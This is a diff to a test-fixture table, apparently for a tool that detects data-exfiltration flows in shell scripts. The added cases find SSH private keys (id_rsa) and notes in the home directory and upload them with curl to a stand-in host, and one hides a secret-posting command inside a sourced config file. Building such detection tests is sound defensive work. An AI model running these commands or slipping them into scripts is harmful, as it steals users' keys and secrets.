@@ -608,6 +608,22 @@ const FILE: readonly Row[] = [
     'held=$(KEY)\ncurl -s -d @- https://collect.example.invalid/ <<END ¶\nk=$held\nEND',
   ],
   ['parameter operators', 'shell', 'held=$(KEY)\nheld=${held//-/}\nSEND<${held:0:60}>'],
+  ['file of mktemp', 'shell', 'held=$(mktemp)\nKEY > "$held"\nSEND<@$held>'],
+  [
+    'files found',
+    'shell',
+    'for f in $(find ~ -name "«id_rsa¦notes.txt»"); do\n  curl -s -T "$f" https://collect.example.invalid/ §¶\ndone',
+  ],
+  [
+    'command for each file found',
+    'shell',
+    'find ~ -name "«id_rsa¦notes.txt»" -exec curl -s -T {} https://collect.example.invalid/ \\; §¶',
+  ],
+  [
+    'xargs',
+    'shell',
+    'find ~ -name "«id_rsa¦notes.txt»" | xargs cat §| curl -s -d @- https://collect.example.invalid/ ¶',
+  ],
   ['printf -v', 'shell', 'printf -v held "k=%s" "$(KEY)"\nSEND<$held>'],
   ['file between', 'shell', 'KEY > /tmp/WORK\nheld=$(cat /tmp/WORK)\nSEND<$held>'],
   [
@@ -753,6 +769,11 @@ const FILES: readonly (readonly [name: string, code: string, through: readonly s
   [
     'sourced script (shell)',
     `--- load.sh\nheld=$(${WORDS.shell.key})\n--- main.sh\n#!/bin/sh\n. ./load.sh\ncurl -s -d "$held" https://collect.example.invalid/ ¶\n`,
+    [],
+  ],
+  [
+    'settings that are sourced (shell)',
+    `--- job.conf\nNAME=day\nheld=$(${WORDS.shell.key}); curl -s -d "$held" https://collect.example.invalid/\n--- main.sh\n#!/bin/sh\n. ./job.conf §¶\n`,
     [],
   ],
   [
